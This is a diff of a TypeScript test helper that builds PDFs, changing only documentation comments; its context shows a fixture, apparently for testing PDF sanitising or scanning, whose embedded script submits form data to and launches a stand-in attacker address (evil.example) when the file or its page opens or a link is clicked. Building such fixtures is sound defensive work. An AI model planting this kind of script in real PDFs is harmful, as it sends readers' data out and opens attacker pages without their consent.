@@ -1,7 +1,8 @@
 import { crc32, deflateSync } from 'node:zlib';
 
 /**
- * A PDF of these pages' texts. `extra` are further objects, and `catalog` what the catalog says.
+ * A PDF with a page for each text. `extra` adds objects; `catalog` and `page` add entries to these
+ * dictionaries.
  */
 export function pdfOf(
   texts: readonly string[],
@@ -39,8 +40,8 @@ const script =
   "app.alert('hostile'); this.submitForm('http://evil.example/sent'); app.launchURL('http://evil.example/opened');";
 
 /**
- * Runs script when it opens, when its page opens and when a link is clicked, opens addresses, and
- * holds a file.
+ * A PDF that runs script when it opens, when its page opens and when a link is clicked, opens
+ * addresses, and holds a file.
  */
 export const scriptedPdf = (): Buffer =>
   pdfOf(['Harmless text'], {
